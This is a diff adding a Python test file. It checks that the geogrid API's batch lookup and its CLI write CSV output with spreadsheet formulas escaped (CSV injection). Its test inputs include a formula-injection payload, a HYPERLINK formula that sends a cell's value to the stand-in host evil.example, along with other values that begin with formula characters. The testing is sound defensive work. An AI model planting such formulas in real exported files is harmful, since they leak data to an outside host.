@@ -1,0 +1,64 @@
+"""CSV answers escape spreadsheet formulas (OWASP): API batch lookups and ``geogrid lookup --file``."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from fastapi.testclient import TestClient
+from sqlalchemy import text
+from typer.testing import CliRunner
+
+from api.app import create_app
+from geogrid.cli import application
+from geogrid.csvsafe import escape_cell
+from tests import test_planning_city as pc
+from tests.test_planning_city import A, B
+
+city = pc.city  # the fixture
+
+IDS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+86 138", "-2+3", "@SUM(1)", "\tx", "\rx", "plain"]
+INPUT = (
+    "id,lon,lat\n"
+    + "".join(f'"{i.replace(chr(34), chr(34) * 2)}",116.305,39.905\n' for i in IDS[:-1])
+    + "plain,116.315,39.905\n"
+)
+
+
+@pytest.fixture
+def named(city):
+    """Grid names a spreadsheet would run."""
+    with city.begin() as conn:
+        conn.execute(text("UPDATE grids SET name = '=1+1' WHERE code = :c"), {"c": A})
+        conn.execute(text("UPDATE grids SET name = '@cmd' WHERE code = :c"), {"c": B})
+    return city
+
+
+def _check(rows: list[dict]) -> None:
+    assert [r["id"] for r in rows] == ["'" + i for i in IDS[:-1]] + ["plain"]
+    assert {r["grid_name"] for r in rows} == {"'=1+1", "'@cmd"}
+    assert all(r["grid_code"] in (A, B) for r in rows)  # codes (digits) are left alone
+
+
+def test_api_csv_answer_escapes_formulas(named):
+    answer = TestClient(create_app()).post(
+        "/lookup/batch", content=INPUT.encode(), headers={"content-type": "text/csv"}
+    )
+    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
+    _check(list(csv.DictReader(io.StringIO(answer.text))))
+
+
+def test_cli_csv_answer_escapes_formulas(named, tmp_path):
+    source, out = tmp_path / "in.csv", tmp_path / "out.csv"
+    source.write_text(INPUT, encoding="utf-8", newline="")
+    got = CliRunner().invoke(application(), ["lookup", "--file", str(source), "--out", str(out)])
+    assert got.exit_code == 0, got.output
+    with out.open(newline="", encoding="utf-8") as fh:
+        _check(list(csv.DictReader(fh)))
+
+
+def test_numbers_and_safe_text_are_left_alone():
+    assert escape_cell(-3.5) == -3.5 and escape_cell(7) == 7 and escape_cell(None) is None
+    assert escape_cell("巴蜀花园3栋") == "巴蜀花园3栋" and escape_cell("a=b") == "a=b"
+    assert escape_cell("-") == "'-"
